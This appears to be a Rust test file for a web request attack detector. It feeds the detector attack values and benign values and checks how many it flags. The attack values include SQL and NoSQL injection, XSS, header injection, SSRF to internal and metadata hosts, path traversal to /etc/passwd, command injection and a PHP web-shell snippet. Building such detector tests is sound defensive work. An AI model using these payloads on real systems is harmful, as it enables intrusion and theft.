//! Runs the detectors on the corpus: attacks that they must find and benign values that they must ignore.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::unreachable,
    reason = "a test ends where something fails"
)]

use std::collections::BTreeMap;
use std::fmt::Write;

use api_sessions_detect::{AttackKind, AttackKinds, Workspace, detect};
use api_sessions_extract::testing::FakeExchange;
use proptest::prelude::*;

/// Minimum share of attacks of a type that are found, and maximum share of benign values that are reported.
/// docs/detection.md has the figures; tighten these when the figures improve.
const LEAST_FOUND: f64 = 0.95;
const MOST_MARKED: f64 = 0.01;

fn unescaped(text: &str) -> String {
    let (mut out, mut chars) = (String::new(), text.chars());
    while let Some(c) = chars.next() {
        match (c, if c == '\\' { chars.next() } else { None }) {
            ('\\', Some('r')) => out.push('\r'),
            ('\\', Some('n')) => out.push('\n'),
            ('\\', Some('t')) => out.push('\t'),
            ('\\', Some('0')) => out.push('\0'),
            ('\\', Some(other)) => out.push(other),
            (c, _) => out.push(c),
        }
    }
    out
}

/// What is found in a value of an argument of that name.
fn named(name: &str, value: &str) -> AttackKinds {
    let target = format!("/preview?{name}={}", encoded(value));
    detect(&FakeExchange::get(&target), AttackKinds::all(), &mut Workspace::default())
}

/// Encodes a value as a browser does, but leaves existing percent signs.
fn encoded(value: &str) -> String {
    value.bytes().fold(String::new(), |mut out, byte| {
        match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' | b'%' => {
                out.push(byte as char)
            }
            _ => write!(out, "%{byte:02X}").unwrap(),
        }
        out
    })
}

fn exchange(place: &str, value: &str) -> FakeExchange {
    let json = |text: &str| serde_json::to_string(text).unwrap();
    let post = |content_type: &str, body: String| FakeExchange {
        method: b"POST".to_vec(),
        request_body: Some((body.into(), content_type.into())),
        ..FakeExchange::get("/things")
    };
    let body = match place {
        "path" => return FakeExchange::get(value),
        "arg" => return FakeExchange::get(&format!("/search?lang=en&q={}", encoded(value))),
        "redirect" => {
            return FakeExchange::get(&format!("/authorize?redirect_uri={}", encoded(value)));
        }
        "name" => return FakeExchange::get(&format!("/search?{}=x", encoded(value))),
        "cookie" => {
            return FakeExchange::get("/")
                .header("Cookie", format!("theme=dark; v={}", value.replace(';', "%3B")));
        }
        "ua" => return FakeExchange::get("/").header("User-Agent", value),
        "header" => return FakeExchange::get("/").header("X-Value", value),
        "json" => ("application/json", format!("{{\"id\":1,\"text\":{}}}", json(value))),
        "jsonname" => {
            ("application/json; charset=utf-8", format!("{{\"a\":{{{}:1}}}}", json(value)))
        }
        "form" => (
            "application/x-www-form-urlencoded",
            format!("id=1&text={}", encoded(&value.replace('%', "%25"))),
        ),
        "body" => ("application/xml", value.to_owned()),
        other => panic!("no such place: {other}"),
    };
    post(body.0, body.1)
}

fn found(place: &str, value: &str) -> AttackKinds {
    detect(&exchange(place, value), AttackKinds::all(), &mut Workspace::default())
}

fn lines(text: &'static str) -> impl Iterator<Item = &'static str> {
    text.lines().filter(|line| !line.is_empty() && !line.starts_with("# "))
}

#[test]
fn attacks_of_each_type_are_found() {
    let mut counts: BTreeMap<&str, (u32, u32)> = BTreeMap::new();
    for line in lines(include_str!("corpus/attacks.txt")) {
        let (kind, rest) = line.split_once(' ').unwrap();
        let (place, value) = rest.split_once(' ').unwrap();
        let wanted: AttackKind = kind.parse().unwrap();
        let hit = found(place, &unescaped(value)).has(wanted);
        let (all, hits) = counts.entry(kind).or_default();
        *all += 1;
        *hits += u32::from(hit);
        if !hit {
            println!("not found: {line}");
        }
    }
    assert_eq!(counts.len(), AttackKind::ALL.len());
    for (kind, (all, hits)) in counts {
        let share = f64::from(hits) / f64::from(all);
        println!("{kind}: {hits} of {all}");
        assert!(share >= LEAST_FOUND, "{kind}: {hits} of {all}");
    }
}

#[test]
fn what_is_benign_is_left_alone() {
    let (mut all, mut marked) = (0_u32, 0_u32);
    for line in lines(include_str!("corpus/benign.txt")) {
        let (place, value) = line.split_once(' ').unwrap();
        let found: Vec<_> =
            found(place, &unescaped(value)).iter().map(AttackKind::as_str).collect();
        all += 1;
        if !found.is_empty() {
            marked += 1;
            println!("{found:?}: {line}");
        }
    }
    println!("{marked} of {all} marked");
    assert!(f64::from(marked) <= MOST_MARKED * f64::from(all), "{marked} of {all}");
}

#[test]
fn a_type_that_is_not_wanted_is_not_found() {
    let exchange = exchange("arg", "1' OR '1'='1");
    let wanted = AttackKind::Xss.into();
    assert!(detect(&exchange, wanted, &mut Workspace::default()).is_empty());
}

#[test]
fn a_multipart_field_and_the_name_of_a_file_are_looked_at() {
    for part in [
        "Content-Disposition: form-data; name=\"q\"\r\n\r\n<script>alert(1)</script>",
        "Content-Disposition: form-data; name=\"f\"; filename=\"<script>alert(1)</script>\"\r\n\r\nx",
    ] {
        let body = format!("--b\r\n{part}\r\n--b--\r\n");
        let exchange = FakeExchange {
            request_body: Some((body.into(), b"multipart/form-data; boundary=b".to_vec())),
            ..FakeExchange::get("/")
        };
        assert!(
            detect(&exchange, AttackKinds::all(), &mut Workspace::default()).has(AttackKind::Xss)
        );
    }
}

/// Asserts that each value is marked as this type in its place.
fn all_are(kind: AttackKind, values: &[(&str, &str)]) {
    for (place, value) in values {
        assert!(found(place, value).has(kind), "{place} {value:?}");
    }
}

/// Asserts that none of the values is marked in its place.
fn none_is_marked(values: &[(&str, &str)]) {
    for (place, value) in values {
        assert_eq!(found(place, value), AttackKinds::default(), "{place} {value:?}");
    }
}

#[test]
fn a_header_of_any_name_behind_a_line_break_was_not_found() {
    all_are(
        AttackKind::HeaderInjection,
        &[
            ("arg", "en\r\nlast-seen:yesterday"),
            ("arg", "https://a.example/next\r\n\tRate-Plan: gold"),
            ("cookie", "dark%0d%0aTeam-Name:blue"),
            ("json", "en%0d%0aTeam-Name: blue"),
            ("arg", "en\\r\\nTeam-Name:blue"),
            ("arg", "en\u{560d}\u{560a}Team-Name:blue"),
            ("path", "/shop%0aTeam-Name:%20blue"),
            ("arg", "anna\nWARNING: disk of anna is full"),
            ("arg", "4711\r\nset cart 0 3600 2\r\nok"),
            ("arg", "4711\r\nflush_all\r\n"),
        ],
    );
    none_is_marked(&[
        ("form", "Hello,\n\nFollow-up: we spoke yesterday about the roof."),
        ("form", "Name: Anna\nE-Mail: anna\u{40}a.example"),
        ("form", "main-db\nmain-cache: large"),
        ("form", "primary\ncache-2:6379\ncache-3:6379"),
        ("form", "services:\n  api-server:\n    image-name: web"),
        ("form", "see this log\nERROR: no such table"),
        ("form", "set the table\nset 4 plates and 2 glasses"),
        ("json", "sizes\nset one 1 2"),
        ("json", "Changes\nRe-use: the parser is shared\n"),
        ("json", "first-name\nlast-name: required"),
    ]);
}

#[test]
fn hosts_of_its_own_network_in_more_notations_were_not_found() {
    all_are(
        AttackKind::PathTraversal,
        &[
            ("arg", "rtsp://0x7f.1/cam"),
            ("json", "coap://2130706433/sensor"),
            ("arg", "7://a.example:80;http://b.example:80/"),
            ("arg", "http://a.example:8080 &@10.1.2.3:22/"),
            ("arg", "https://shop.example@10.1.2.3/"),
            ("json", "https://shop.example@10.1.2.3/stock"),
            ("json", "http://instance-data"),
            ("json", "https://metadata.platformequinix.com/metadata"),
            ("arg", "http://[fd12:3456::9]/"),
            ("arg", "thumb.php?src=http://127.0.0.1:6379"),
            ("arg", "https://a.example/proxy?src=gopher://b.example:70/_x"),
            ("arg", "kubernetes.default.svc/api"),
            ("arg", "files.lvh.me/"),
            ("arg", "unix:/run/app.sock"),
            ("json", "file://localhost/etc/group"),
        ],
    );
    assert!(!named("source", "127.0.0.1/status").is_empty());
    assert!(!named("page", "localhost/wiki").is_empty());
    assert!(named("q", "localhost/wiki").is_empty());
    assert!(named("return_path", "localhost/wiki").is_empty());
    none_is_marked(&[
        ("json", "http://localhost:3000/dashboard"),
        ("json", "https://hooks.a.example/services/T1/B2"),
        ("json", "postgres://app:secret@10.1.2.3:5432/app"),
        ("json", "rtsp://camera:pass@192.168.1.20:554/stream"),
        ("json", "kubernetes.default.svc:443"),
        ("json", "https://git@code.a.example/team/app.git"),
        ("header", "app.lvh.me:3000"),
        ("arg", "https://a.example/login?next=https://b.example/page?id=1"),
        ("arg", "a.php?callback=http://127.0.0.1:22"),
        ("arg", "localhost:8080"),
        ("arg", "10:20:30"),
        ("arg", "urn:isbn:0451450523"),
        ("arg", "spotify:track:4711"),
        ("json", "unix:/run/app.sock"),
    ]);
}

/// What is found in a body of JSON.
fn in_json(body: &str) -> AttackKinds {
    marked(&FakeExchange::post("/things").body("application/json", body))
}

#[test]
fn objects_of_more_languages_were_not_found() {
    for body in [
        r#"{"data":{"@type":"java.net.Inet4Address","val":"a.example"}}"#,
        r#"["jdk.jfr.internal.Utils", {"a": 1}]"#,
        r#"{"x":{"$type":"System.IO.FileInfo, mscorlib","name":"a"}}"#,
        r#"{"Object" : { "prototype": {"role": "owner"}}}"#,
        r#"{"path":"$1:constructor:constructor"}"#,
    ] {
        assert!(in_json(body).has(AttackKind::CommandInjection), "{body}");
    }
    for body in [
        r#"{"@type":"Person","name":"Anna"}"#,
        r#"{"@type":"type.googleapis.com/google.protobuf.Duration","value":"3s"}"#,
        r#"{"@class":"example.shop.Order","id":4711}"#,
        r#"{"@class":"java.util.HashMap","a":1}"#,
        r#"{"product":{"prototype":{"model":"B"}}}"#,
        r#"{"topic":"java.net.URL against java.net.URI"}"#,
        r#"{"module":"java.io.File"}"#,
        r#"["org.example.plugin", "com.example.shop"]"#,
    ] {
        assert_eq!(in_json(body), AttackKinds::default(), "{body}");
    }
    all_are(
        AttackKind::CommandInjection,
        &[
            ("cookie", "a:2:{i:0;s:1:\"x\";i:1;R:2;}"),
            ("arg", "a:1:{s:4:\"pass\";b:1;}"),
            ("arg", "O:+4:\"Cart\":1:{s:2:\"id\";i:1;}"),
            ("arg", "gASVKAAAAAAAAACMCGJ1aWx0aW5zlIwFcHJpbnSUk5QpUpQu"),
            ("cookie", "BAhvOgtPcmRlcjoKQGlkaQY6CkBuYW1lSSIGYQY6BkVU"),
            ("arg", "\"system\"('uptime')"),
            ("arg", "[passthru][0](uptime);"),
            ("arg", "order['__defineGetter__']"),
        ],
    );
    all_are(
        AttackKind::TemplateInjection,
        &[("arg", "@{[system 'uptime']}"), ("json", "Hi @{[ (join ',', 1) ]}")],
    );
    all_are(AttackKind::JndiInjection, &[("json", "$&lcub;jndi:ldap://a.example/x&rcub;")]);
    none_is_marked(&[
        ("cookie", "a:2:{s:9:\"logged_in\";b:1;s:4:\"lang\";s:2:\"de\";}"),
        ("arg", "gasvergelijking2024amsterdam-noord"),
        ("arg", "the operating system (Linux)"),
        ("json", "the \"system\" (as we call it)"),
        ("arg", "@{user}"),
        ("json", "thanks @{[~accountid:5f2]}"),
        ("arg", "exec(ution) plan"),
    ]);
}

#[test]
fn conditions_of_directories_and_scripts_were_not_found() {
    all_are(
        AttackKind::LdapInjection,
        &[("arg", "**)*"), ("arg", "\\28\\29"), ("cookie", "\\2a"), ("json", "anna)(|(!(1=2")],
    );
    all_are(
        AttackKind::Sqli,
        &[
            ("arg", "9') and normalize-space(../pin)='1"),
            ("json", "9 or not(string-length(pin)=4)"),
            ("arg", "select case when (a-b) then pg_sleep(9) else null end"),
            ("arg", "copy (select 1) to program 'uptime'"),
        ],
    );
    all_are(
        AttackKind::NosqlInjection,
        &[
            ("arg", "anna';return false;//"),
            ("json", "anna';return 0;//"),
            ("arg", "4711;sleep(900);"),
            ("arg", "while(!null);"),
            ("json", "'; while (1){}"),
        ],
    );
    all_are(
        AttackKind::Xss,
        &[("arg", "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#a'>")],
    );
    all_are(AttackKind::PathTraversal, &[("arg", "file:/$(a)et$(zq)c/pa$(x)sswd")]);
    none_is_marked(&[
        ("arg", "anna*"),
        ("arg", "*anna*"),
        ("arg", "(*)"),
        ("json", "ok :*)"),
        ("json", "cn=Anna Berg,ou=People,dc=example,dc=org"),
        ("arg", "uid=anna,ou=people,dc=example,dc=org"),
        ("json", "(objectClass=person)"),
        ("arg", "$filter=startswith(name,'A') and contains(city,'x')"),
        ("arg", "assignee = anna and summary ~ \"roof\""),
        ("json", "go(); return false;"),
        ("json", "let a = 1;\nreturn true;"),
        ("json", "while(true) { poll(); }"),
        ("arg", "while (we wait)"),
        ("arg", "copy of the program 'A'"),
        ("json", "a[b]$(c)d"),
    ]);
}

#[test]
fn disks_names_in_strings_and_commands_on_the_wire_were_not_found() {
    all_are(
        AttackKind::PathTraversal,
        &[
            ("arg", "\\\\.\\D:\\notes"),
            ("json", "//?/c:/windows/notes.txt"),
            ("json", "/srv/app/notes%00"),
            ("arg", "/srv/app/notes%2500.png%00"),
        ],
    );
    all_are(AttackKind::Xss, &[("arg", "frame['prompt'](1)"), ("arg", "x[\"alert\"]`1`")]);
    all_are(
        AttackKind::NosqlInjection,
        &[
            ("arg", "*2\r\n$4\r\nINCR\r\n$1\r\na\r\n"),
            ("json", "a\r\n*1\r\n$4\r\nPING\r\n"),
            ("arg", "keys cart:*"),
        ],
    );
    assert!(in_json(r#"{"token":{"$eq":"a"}}"#).has(AttackKind::NosqlInjection));
    assert!(in_json(r#"{"city":{"$eq":"a"}}"#).is_empty());
    none_is_marked(&[
        ("json", "\\\\?\\C:\\Users\\anna\\notes.txt"),
        ("arg", "* one\n* two"),
        ("arg", "keys of the house"),
        ("json", "a['name'](1)"),
        ("arg", "sort['price']"),
        ("arg", "/srv/app/notes"),
        ("json", "100%00"),
    ]);
}

#[test]
fn prompts_and_bytes_that_are_no_text_were_taken_for_commands() {
    none_is_marked(&[
        ("arg", "how to; mysql> grant select on shop"),
        ("json", "a\u{85};w<\u{98}#"),
        ("json", "x&w>y"),
    ]);
    all_are(
        AttackKind::CommandInjection,
        &[("arg", ";w -h"), ("arg", "a;mysql -e 'show tables'"), ("arg", "1;w</tmp/a;id")],
    );
}

fn marked(exchange: &FakeExchange) -> AttackKinds {
    detect(exchange, AttackKinds::all(), &mut Workspace::default())
}

#[test]
fn an_attack_where_a_name_and_a_value_belong_was_not_looked_at() {
    for target in ["/?id'%20OR%20'1'='1", "/?name[0%20;select%20sleep(8);%23]=a&b=c"] {
        assert!(marked(&FakeExchange::get(target)).has(AttackKind::Sqli), "{target}");
    }
    for header in ["' OR '1'='1' --", "a=b; 1' UNION SELECT 1,2--"] {
        let cookie = FakeExchange::get("/").header("Cookie", header);
        assert!(marked(&cookie).has(AttackKind::Sqli), "{header}");
    }
    let handler = FakeExchange::get("/?onfocus=run(document)");
    assert!(marked(&handler).has(AttackKind::Xss));
    let shared = r#"{"a": {"constructor" : { "prototype": {"b": true}}}}"#;
    let shared = FakeExchange::post("/").body("application/json", shared);
    assert!(marked(&shared).has(AttackKind::CommandInjection));
    let template = "{{constructor.constructor('alert(1)')()}}";
    let template = FakeExchange::post("/").body("application/x-www-form-urlencoded", template);
    assert!(!marked(&template).is_empty());
    let cut = FakeExchange::get("/").header("Cookie", "eve'; -- -");
    assert!(marked(&cut).has(AttackKind::Sqli));
    let named = FakeExchange::get("/").header("Referer", "https://a.example/?confirm.call(null,2)");
    assert!(marked(&named).has(AttackKind::Xss));
    let referer = FakeExchange::get("/").header("Referer", "../../../../etc/passwd");
    assert!(marked(&referer).has(AttackKind::PathTraversal));
}

#[test]
fn markup_in_a_body_that_promises_none_was_read_as_xml_alone() {
    let form = "application/x-www-form-urlencoded";
    for body in ["<iframe src=javascript:alert(1)>", "</title><svg onload=alert(1)>"] {
        for kind in ["", form] {
            assert!(
                marked(&FakeExchange::post("/").body(kind, body)).has(AttackKind::Xss),
                "{body}"
            );
        }
    }
    let document = "<order><note>two of a=1 (b)</note></order>";
    assert_eq!(marked(&FakeExchange::post("/").body(form, document)), AttackKinds::default());
}

#[test]
fn a_script_in_an_uploaded_file_was_not_looked_at() {
    let upload = |content: &[u8]| {
        let head = b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\n\r\n";
        let body = [&head[..], content, b"\r\n--b--\r\n"].concat();
        marked(&FakeExchange::post("/").body("multipart/form-data; boundary=b", body))
    };
    for script in ["\u{89}PNG\r\n\0<?php system($_GET['c']); ?>", "<% Runtime.getRuntime() %>"] {
        assert!(upload(script.as_bytes()).has(AttackKind::CommandInjection), "{script}");
    }
    for file in
        ["<?xml version=\"1.0\"?><a/>", "1' OR '1'='1; cat /etc/passwd", "<?php namespace App;"]
    {
        assert_eq!(upload(file.as_bytes()), AttackKinds::default(), "{file}");
    }
}

#[test]
fn ten_thousand_arguments_are_not_looked_at_forever() {
    let query = "a=b%20c&".repeat(10_000) + "q=<script>alert(1)</script>";
    let exchange = FakeExchange::get(&format!("/?{query}"));
    assert!(detect(&exchange, AttackKinds::all(), &mut Workspace::default()).is_empty());
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    /// No input causes a panic.
    #[test]
    fn no_bytes_do_harm(
        path in proptest::collection::vec(any::<u8>(), 0..200),
        query in "[a-z=&%0-9'\"<>();/*#${}. |`\\\\\\[\\]-]{0,200}",
        cookie in proptest::collection::vec(any::<u8>(), 0..200),
        body in proptest::collection::vec(any::<u8>(), 0..400),
        kind in prop_oneof![
            Just("application/json"), Just("multipart/form-data; boundary=x"),
            Just("application/x-www-form-urlencoded"), Just("text/xml"), Just("")],
    ) {
        let exchange = FakeExchange {
            path,
            request_body: Some((body, kind.into())),
            ..FakeExchange::get(&format!("/?{query}")).header("Cookie", cookie)
        };
        let _ = detect(&exchange, AttackKinds::all(), &mut Workspace::default());
    }
}
